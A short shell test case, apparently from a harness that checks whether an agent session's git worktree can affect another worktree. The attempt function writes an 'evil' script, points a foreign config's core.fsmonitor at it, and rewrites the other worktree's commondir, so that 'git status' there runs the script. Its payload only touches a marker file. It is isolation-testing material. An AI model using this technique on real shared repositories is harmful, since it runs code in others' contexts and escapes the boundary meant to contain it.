# From a session's worktree: make another worktree obey a configuration of one's own
# group: git-files
# worktree: agent/work
prepare() { git init -q -b main "$W" && git -C "$W" commit -q --allow-empty -m first && git -C "$W" worktree add -q -b agent/other "$ROOM/other"; }
attempt() {
  printf '#!/bin/sh\ntouch "%s/ran"\n' "$ROOM" > evil; chmod +x evil
  git init -q --bare mine && git config -f mine/config core.bare false
  git config -f mine/config core.fsmonitor "$PWD/evil"
  cp -r "$W/.git/refs" "$W/.git/objects" mine/
  echo "$PWD/mine" > "$W/.git/worktrees/other/commondir"
  cd "$W/.git/worktrees" && mv other old && cp -r old other && echo "$PLACE/mine" > other/commondir
}
succeeded() { git -C "$ROOM/other" status >/dev/null; test -e "$ROOM/ran"; }
